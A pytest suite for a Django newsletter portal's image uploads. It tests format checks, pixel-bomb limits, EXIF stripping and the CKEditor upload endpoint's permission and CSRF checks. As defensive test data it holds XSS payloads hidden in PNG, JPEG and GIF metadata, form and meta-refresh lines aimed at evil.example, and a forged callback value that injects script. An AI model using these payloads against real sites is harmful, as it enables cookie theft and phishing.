"""Uploaded images: only real JPEG, PNG, WebP and GIF files of sane size."""

import os
import random
import subprocess
import sys
import tracemalloc
from io import BytesIO

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

from msme_portal.images import (
    RandomImageName,
    clean_image,
    detect_image_format,
    find_markup,
    random_upload_name,
    validate_image,
)
from tests.images import (
    SVG,
    UPLOAD_URL,
    gif_with_html,
    image_bytes,
    png_header_only,
    post_upload,
)

PILLOW_FORMATS = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp", "GIF": "gif"}


def upload(data, name="picture.png", content_type="image/png"):
    return SimpleUploadedFile(name, data, content_type=content_type)


BAD_FILES = {
    "not an image": (b"%PDF-1.4 definitely not a picture", "error_code_any"),
    "svg": (SVG, "markup"),
    "html/gif polyglot": (gif_with_html(), "markup"),
    "html pretending to be a png": (b"<!DOCTYPE html><p>hi</p>", "markup"),
    "truncated png": (image_bytes("PNG")[:60], "invalid_image"),
}


@pytest.mark.parametrize("image_format", sorted(PILLOW_FORMATS))
def test_real_images_are_accepted_with_their_format(image_format):
    file = upload(image_bytes(image_format), name=f"x.{PILLOW_FORMATS[image_format]}")
    assert detect_image_format(file) == image_format
    # The file is rewound so it can be saved afterwards.
    assert file.tell() == 0


@pytest.mark.parametrize("label", sorted(BAD_FILES))
def test_files_that_are_not_plain_images_are_refused(label):
    data, code = BAD_FILES[label]
    with pytest.raises(ValidationError) as excinfo:
        validate_image(upload(data))
    if code != "error_code_any":
        assert excinfo.value.code == code
    assert excinfo.value.messages  # a message staff can read


def test_a_file_over_the_byte_limit_is_refused_before_it_is_read(settings):
    settings.MAX_IMAGE_UPLOAD_BYTES = 10 * 1024 * 1024
    data = image_bytes("PNG") + b"\0" * (10 * 1024 * 1024)
    with pytest.raises(ValidationError) as excinfo:
        detect_image_format(upload(data))
    assert excinfo.value.code == "too_large"
    assert "10 MB" in excinfo.value.messages[0]


def test_an_image_with_too_many_pixels_is_refused_from_its_header(settings):
    settings.MAX_IMAGE_PIXELS = 40_000_000
    data = png_header_only(8000, 6000)  # 48 million pixels in a 57-byte file
    assert len(data) < 100
    with pytest.raises(ValidationError) as excinfo:
        detect_image_format(upload(data))
    assert excinfo.value.code == "too_many_pixels"
    assert "8000 × 6000" in excinfo.value.messages[0]


def test_a_decompression_bomb_header_is_refused_without_decoding():
    # Far beyond Pillow's own bomb limit: refused at open, nothing decoded.
    with pytest.raises(ValidationError):
        detect_image_format(upload(png_header_only(100_000, 100_000)))


def test_random_names_keep_only_a_known_extension():
    names = {random_upload_name("holiday photo.JPEG") for _ in range(5)}
    assert len(names) == 5
    assert all(name.endswith(".jpg") and " " not in name for name in names)
    assert random_upload_name("evil.svg").endswith(".bin")
    assert random_upload_name("../../x.png", folder="covers/").startswith("covers/")
    assert ".." not in random_upload_name("../../x.png", folder="covers/")


def test_random_image_name_is_an_upload_to_callable():
    upload_to = RandomImageName("sections")
    assert upload_to(None, "a.png").startswith("sections/")
    assert upload_to == RandomImageName("sections")
    assert upload_to != RandomImageName("covers")


# Markup hidden in real images

MARKUP_PAYLOADS = {
    "img onerror": b'<img src=x onerror="alert(document.cookie)">',
    "img with slashes": b"<IMG/SRC/ONERROR=alert(1)>",
    "meta refresh": b'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": b"<style>body{background:url(https://evil.example/t)}</style>",
    "form": b'<form action="https://evil.example/"><input name=password></form>',
    "script": b"<script>alert(1)</script>",
    "svg onload": b"<svg/onload=alert(1)>",
    "link on a short tag": b"<a href=javascript:alert(1)>click</a>",
    "iframe": b"<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "doctype": b"<!DOCTYPE html>",
    "xml declaration": b'<?xml version="1.0"?>',
}


def png_with_text(text):
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", text.decode())  # an uncompressed tEXt chunk
    return image_bytes("PNG", pnginfo=info)


CARRIERS = {
    "PNG text chunk": png_with_text,
    "JPEG comment": lambda payload: image_bytes("JPEG", comment=payload),
    "GIF comment": lambda payload: image_bytes("GIF", comment=payload),
}


@pytest.mark.parametrize("carrier", sorted(CARRIERS))
@pytest.mark.parametrize("payload", sorted(MARKUP_PAYLOADS))
def test_an_image_carrying_markup_is_refused(carrier, payload):
    data = CARRIERS[carrier](MARKUP_PAYLOADS[payload])
    assert MARKUP_PAYLOADS[payload] in data
    Image.open(BytesIO(data)).load()  # a real image all the same
    with pytest.raises(ValidationError) as excinfo:
        clean_image(upload(data))
    assert excinfo.value.code == "markup"
    assert "contains markup" in excinfo.value.messages[0]


@pytest.mark.parametrize(
    "harmless",
    [b"Photo: Jane Doe <jane@example.org>", b"2 < 3 and 5 > 4", b"<b>", b"a<br>b", b"x<img>"],
)
def test_text_that_is_not_a_working_tag_is_not_markup(harmless):
    assert find_markup(harmless) is None


def noise(size, seed, mode="RGB"):
    bands = len(mode)
    rng = random.Random(seed)
    return Image.frombytes(mode, size, rng.randbytes(size[0] * size[1] * bands))


@pytest.mark.parametrize(
    ("image_format", "save_options"),
    [("JPEG", {"quality": 95}), ("PNG", {}), ("WEBP", {"quality": 95}), ("GIF", {})],
)
def test_photos_of_random_noise_are_not_mistaken_for_markup(image_format, save_options):
    # Compressed pixels look like random bytes, where a careless pattern finds
    # tags: a real photograph must pass.
    for seed in range(3):
        buffer = BytesIO()
        noise((1200, 900), seed).save(buffer, image_format, **save_options)
        data = buffer.getvalue()
        assert len(data) > 500_000 or image_format != "JPEG"
        cleaned = clean_image(upload(data))
        assert (cleaned.format, cleaned.width, cleaned.height) == (image_format, 1200, 900)


def test_markup_search_finds_nothing_in_random_bytes():
    rng = random.Random(2026)
    assert find_markup(rng.randbytes(32 * 1024 * 1024)) is None


# What is stored: the picture, upright, without its metadata


def upright_test_photo(image_format="JPEG"):
    """A 60 × 40 picture, red on the left and blue on the right, that its EXIF
    data says to show turned a quarter clockwise (so 40 × 60, red on top),
    with a GPS position, a camera and an author."""
    image = Image.new("RGB", (60, 40), "blue")
    image.paste("red", (0, 0, 30, 40))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Canon"
    exif[ExifTags.Base.Model] = "EOS 5D Mark IV"
    exif[ExifTags.Base.Artist] = "Jane Photographer"
    exif[ExifTags.Base.Copyright] = "Jane Photographer 2026"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (46.0, 13.0, 22.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (6.0, 8.0, 40.0)
    buffer = BytesIO()
    image.save(
        buffer, image_format, exif=exif, **({"quality": 95} if image_format != "PNG" else {})
    )
    data = buffer.getvalue()
    with Image.open(BytesIO(data)) as check:
        assert check.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test's own premise
    return data


def assert_upright_without_metadata(data, image_format="JPEG"):
    assert b"Jane Photographer" not in data
    assert b"Canon" not in data
    with Image.open(BytesIO(data)) as image:
        assert image.format == image_format
        assert "exif" not in image.info
        assert dict(image.getexif()) == {}
        assert image.size == (40, 60)
        red, _green, blue = image.convert("RGB").getpixel((20, 10))
        assert red > 200 and blue < 60  # the left half is now on top
        red, _green, blue = image.convert("RGB").getpixel((20, 50))
        assert blue > 200 and red < 60


@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP"])
def test_exif_data_is_removed_and_the_picture_turned_upright(image_format):
    cleaned = clean_image(upload(upright_test_photo(image_format)))
    assert (cleaned.width, cleaned.height) == (40, 60)
    assert_upright_without_metadata(cleaned.data, image_format)


def test_comments_and_text_chunks_do_not_survive():
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "Jane Photographer")
    for data in (
        image_bytes("PNG", pnginfo=info),
        image_bytes("JPEG", comment=b"Jane Photographer"),
        image_bytes("GIF", comment=b"Jane Photographer"),
        image_bytes("PNG") + b"Jane Photographer",  # appended after the end
    ):
        cleaned = clean_image(upload(data))
        assert b"Jane" not in cleaned.data


def test_transparency_and_the_colour_profile_are_kept():
    from PIL import ImageCms

    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    buffer = BytesIO()
    Image.new("RGB", (10, 10), "green").save(buffer, "JPEG", icc_profile=profile)
    with Image.open(BytesIO(clean_image(upload(buffer.getvalue())).data)) as image:
        assert image.info["icc_profile"] == profile
    palette = Image.new("P", (10, 10), 3)
    palette.putpixel((0, 0), 4)
    buffer = BytesIO()
    palette.save(buffer, "GIF", transparency=3)
    with Image.open(BytesIO(clean_image(upload(buffer.getvalue())).data)) as image:
        pixels = image.convert("RGBA")
        assert pixels.getpixel((5, 5))[3] == 0
        assert pixels.getpixel((0, 0))[3] == 255


def test_an_animated_gif_is_refused_with_a_message():
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    buffer = BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100)
    with pytest.raises(ValidationError) as excinfo:
        clean_image(upload(buffer.getvalue()))
    assert excinfo.value.code == "animated"
    assert "Animated images are not accepted" in excinfo.value.messages[0]


def test_a_big_jpeg_is_decoded_and_stored_at_half_size(settings):
    settings.MAX_IMAGE_PIXELS = 1_000_000
    buffer = BytesIO()
    Image.new("RGB", (1600, 1200), "orange").save(buffer, "JPEG")  # 1.9 million pixels
    cleaned = clean_image(upload(buffer.getvalue()))
    assert (cleaned.format, cleaned.width, cleaned.height) == ("JPEG", 800, 600)
    buffer = BytesIO()
    Image.new("RGB", (2400, 1800), "orange").save(buffer, "JPEG")  # over four times
    with pytest.raises(ValidationError) as excinfo:
        clean_image(upload(buffer.getvalue()))
    assert excinfo.value.code == "too_many_pixels"


def single_colour_png(width, height):
    buffer = BytesIO()
    Image.new("RGB", (width, height), "white").save(buffer, "PNG", compress_level=9)
    return buffer.getvalue()


def test_a_small_png_claiming_40_megapixels_is_refused_before_decoding():
    data = single_colour_png(6400, 6200)  # 39.7 million pixels in a small file
    assert len(data) < 200_000
    tracemalloc.start()
    try:
        with pytest.raises(ValidationError) as excinfo:
            clean_image(upload(data))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert excinfo.value.code == "too_many_pixels"
    assert excinfo.value.messages[0] == (
        "This image is 6400 × 6200 pixels; the limit is 12.6 million pixels."
    )
    assert peak < 50 * 1024 * 1024


MEASURE_PEAK_MEMORY = """
import re, sys
import django
django.setup()
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from msme_portal.images import clean_image
data = open(sys.argv[1], "rb").read()
def peak_kb():
    # The process's own high-water mark (getrusage's would count the parent's
    # memory at fork).
    with open("/proc/self/status") as status:
        return int(re.search(r"VmHWM:\\s*(\\d+)", status.read()).group(1))
before = peak_kb()
try:
    clean_image(SimpleUploadedFile("x.png", data))
    print("accepted", end=" ")
except ValidationError as error:
    print(error.code, end=" ")
print(peak_kb() - before)
"""


def test_refusing_a_40_megapixel_png_costs_a_worker_no_memory(tmp_path):
    """Pillow allocates pixels outside Python's allocator, out of tracemalloc's
    sight: the peak resident memory of a fresh process sees them."""

    def peak_growth_in_mb(data):
        picture = tmp_path / "picture.png"
        picture.write_bytes(data)
        result = subprocess.run(
            [sys.executable, "-c", MEASURE_PEAK_MEMORY, str(picture)],
            capture_output=True,
            text=True,
            check=True,
            cwd=settings.BASE_DIR,
            env={**os.environ, "DJANGO_SETTINGS_MODULE": "tests.settings"},
        )
        outcome, growth_kb = result.stdout.split()[-2:]
        return outcome, int(growth_kb) / 1024

    outcome, growth = peak_growth_in_mb(single_colour_png(6400, 6200))
    assert outcome == "too_many_pixels"
    assert growth < 50
    # The measure does see a decode: 12 million pixels, within the limit, cost
    # at least their four bytes each.
    outcome, growth = peak_growth_in_mb(single_colour_png(4000, 3000))
    assert outcome == "accepted"
    assert growth > 45


def test_the_pixel_limit_admits_a_12_megapixel_phone_photo():
    assert settings.MAX_IMAGE_PIXELS >= 4032 * 3024
    assert settings.MAX_IMAGE_PIXELS < 39_680_000 / 3


# Image fields: the admin's uploads are stored re-encoded too


@pytest.mark.django_db
def test_an_image_saved_through_the_admin_is_stored_upright_without_metadata(editor_client):
    from newsletters.models import Section
    from tests.factories import make_draft_issue
    from tests.newsletters.helpers import post_section, section_form_data

    photo = SimpleUploadedFile("Holiday.JPEG", upright_test_photo(), content_type="image/jpeg")
    response = post_section(
        editor_client,
        section_form_data(make_draft_issue(), image=photo, image_alt="A red and blue flag"),
    )
    assert response.status_code == 302
    section = Section.objects.get()
    assert section.image.name.startswith("sections/")
    assert section.image.name.endswith(".jpg")
    assert "Holiday" not in section.image.name
    with default_storage.open(section.image.name) as stored:
        assert_upright_without_metadata(stored.read())


@pytest.mark.django_db
def test_an_image_saved_in_code_is_re_encoded_too():
    from newsletters.models import Issue
    from tests.factories import make_issue

    issue = make_issue()
    issue.cover_image = SimpleUploadedFile("cover.png", upright_test_photo("PNG"))
    issue.save()
    issue = Issue.objects.get(pk=issue.pk)
    assert issue.cover_image.name.endswith(".png")
    with default_storage.open(issue.cover_image.name) as stored:
        assert_upright_without_metadata(stored.read(), "PNG")


@pytest.mark.django_db
@pytest.mark.parametrize("carrier", sorted(CARRIERS))
def test_an_admin_upload_carrying_markup_is_a_form_error(editor_client, carrier):
    from newsletters.models import Section
    from tests.factories import make_draft_issue
    from tests.newsletters.helpers import post_section, section_form_data

    data = CARRIERS[carrier](MARKUP_PAYLOADS["img onerror"])
    photo = SimpleUploadedFile("photo.png", data, content_type="image/png")
    response = post_section(
        editor_client, section_form_data(make_draft_issue(), image=photo, image_alt="x")
    )
    assert response.status_code == 200
    assert "contains markup" in response.context["adminform"].form.errors["image"][0]
    assert not Section.objects.exists()


# The editor's upload endpoint, /editor/upload/


@pytest.fixture
def section_editor(client, django_user_model):
    from django.contrib.auth.models import Permission

    user = django_user_model.objects.create_user(
        username="writer", password="irrelevant-password-1", is_staff=True
    )
    user.user_permissions.add(Permission.objects.get(codename="change_section"))
    client.force_login(user)
    return client


@pytest.mark.django_db
@pytest.mark.parametrize("image_format", sorted(PILLOW_FORMATS))
def test_the_editor_upload_stores_a_real_image_under_a_random_name(
    section_editor, image_format, settings
):
    data = image_bytes(image_format)
    response = post_upload(section_editor, data, name="My Holiday.svg")
    assert response.status_code == 200
    body = response.json()
    assert body["uploaded"] == 1
    extension = PILLOW_FORMATS[image_format]
    assert body["fileName"].endswith(f".{extension}")
    assert "Holiday" not in body["fileName"]
    assert body["url"] == f"{settings.MEDIA_URL}{settings.CKEDITOR_UPLOAD_PATH}{body['fileName']}"
    name = settings.CKEDITOR_UPLOAD_PATH + body["fileName"]
    with default_storage.open(name) as stored, Image.open(stored) as image:
        assert image.format == image_format
        assert image.size == (40, 30)


@pytest.mark.django_db
def test_the_editor_upload_stores_the_re_encoded_image_without_metadata(section_editor, settings):
    data = upright_test_photo()
    body = post_upload(section_editor, data, name="photo.jpg").json()
    assert body["uploaded"] == 1
    assert body["fileName"].endswith(".jpg")
    with default_storage.open(settings.CKEDITOR_UPLOAD_PATH + body["fileName"]) as stored:
        stored_data = stored.read()
    assert_upright_without_metadata(stored_data)


@pytest.mark.django_db
def test_the_editor_upload_answers_the_upload_dialog_with_a_script(section_editor):
    response = post_upload(
        section_editor, image_bytes("PNG"), query="?CKEditor=id_body&CKEditorFuncNum=7&langCode=en"
    )
    content = response.content.decode()
    assert response["Content-Type"].startswith("text/html")
    assert "window.parent.CKEDITOR.tools.callFunction(7, " in content
    assert "/media/editor/" in content
    # The dialog reads the answer in a hidden frame of the admin page.
    assert response["X-Frame-Options"] == "SAMEORIGIN"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "func_num", ["1);alert(document.cookie);//", "7<script>", "-1", "1.5", "１"]
)
def test_a_forged_function_number_is_never_echoed(section_editor, func_num):
    from urllib.parse import quote

    response = post_upload(
        section_editor, image_bytes("PNG"), query=f"?CKEditorFuncNum={quote(func_num)}"
    )
    assert "callFunction" not in response.content.decode()
    assert response.json()["uploaded"] == 1


@pytest.mark.django_db
@pytest.mark.parametrize("label", sorted(BAD_FILES))
def test_the_editor_upload_refuses_hostile_files_with_a_message(section_editor, label, settings):
    data, _code = BAD_FILES[label]
    response = post_upload(section_editor, data)
    assert response.status_code == 200  # CKEditor shows the message only then
    body = response.json()
    assert body["uploaded"] == 0
    assert body["error"]["message"]
    assert not (settings.MEDIA_ROOT / settings.CKEDITOR_UPLOAD_PATH).exists()


@pytest.mark.django_db
def test_the_editor_upload_refuses_pixel_bombs_and_oversized_files(section_editor, settings):
    for data in (png_header_only(100_000, 100_000), png_header_only(8000, 6000)):
        assert post_upload(section_editor, data).json()["uploaded"] == 0
    settings.MAX_IMAGE_UPLOAD_BYTES = 1000
    big = image_bytes("PNG", size=(300, 300), compress_level=0)
    body = post_upload(section_editor, big).json()
    assert body["uploaded"] == 0
    assert "the limit is" in body["error"]["message"]


@pytest.mark.django_db
def test_an_error_in_the_upload_dialog_is_a_script_with_the_message(section_editor):
    response = post_upload(section_editor, SVG, query="?CKEditorFuncNum=3")
    content = response.content.decode()
    assert 'callFunction(3, "", "This file contains markup' in content
    assert "<svg" not in content


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("label", "kwargs"),
    [
        ("no token", {"token": None}),
        ("no cookie", {"cookie": None}),
        ("token differs from cookie", {"token": "f" * 40}),
        ("short token", {"token": "abc", "cookie": "abc"}),
        ("foreign origin", {"HTTP_ORIGIN": "https://evil.example"}),
        ("foreign referer", {"HTTP_ORIGIN": "null", "HTTP_REFERER": "https://evil.example/x"}),
        ("no origin or referer", {"HTTP_ORIGIN": ""}),
    ],
)
def test_the_editor_upload_refuses_requests_without_its_csrf_defences(
    section_editor, label, kwargs, settings
):
    response = post_upload(section_editor, image_bytes("PNG"), **kwargs)
    assert response.status_code == 403, label
    assert response.json()["uploaded"] == 0
    assert not (settings.MEDIA_ROOT / settings.CKEDITOR_UPLOAD_PATH).exists()


@pytest.mark.django_db
def test_a_same_site_referer_is_enough_without_an_origin(section_editor):
    response = post_upload(
        section_editor,
        image_bytes("PNG"),
        HTTP_ORIGIN="null",
        HTTP_REFERER="http://testserver/admin/newsletters/section/1/change/",
    )
    assert response.json()["uploaded"] == 1


@pytest.mark.django_db
def test_the_editor_upload_is_refused_to_anyone_but_section_editors(client, django_user_model):
    assert post_upload(client, image_bytes("PNG")).status_code == 403
    user = django_user_model.objects.create_user(username="reader", password="x-password-1")
    client.force_login(user)
    assert post_upload(client, image_bytes("PNG")).status_code == 403
    user.is_staff = True
    user.save()
    assert post_upload(client, image_bytes("PNG")).status_code == 403


@pytest.mark.django_db
def test_the_editor_upload_accepts_only_post(section_editor):
    assert section_editor.get(UPLOAD_URL).status_code == 405


@pytest.mark.django_db
def test_the_file_browser_is_for_section_editors_only(client, section_editor, settings):
    uploaded = post_upload(section_editor, image_bytes("PNG", size=(200, 100))).json()
    response = section_editor.get("/editor/browse/")
    assert response.status_code == 200
    content = response.content.decode()
    assert uploaded["url"] in content
    assert uploaded["url"].replace(".png", "_thumb.png") in content
    assert "no-store" in response["Cache-Control"]
    client.logout()
    assert client.get("/editor/browse/").status_code == 403


def test_the_editor_widget_points_at_our_views():
    from ckeditor_uploader.widgets import CKEditorUploadingWidget

    widget = CKEditorUploadingWidget()
    widget._set_config()
    assert widget.config["filebrowserUploadUrl"] == "/editor/upload/"
    assert widget.config["filebrowserBrowseUrl"] == "/editor/browse/"


def test_uploads_refuse_truncated_images_once_the_pdf_typesetter_is_loaded():
    # WeasyPrint turns Pillow's LOAD_TRUNCATED_IMAGES on for the whole
    # process when imported; the PDF edition puts it back.
    import newsletters.pdf_edition  # noqa: F401

    with pytest.raises(ValidationError) as refused:
        validate_image(SimpleUploadedFile("cut.png", image_bytes("PNG")[:60]))

    assert refused.value.code == "invalid_image"
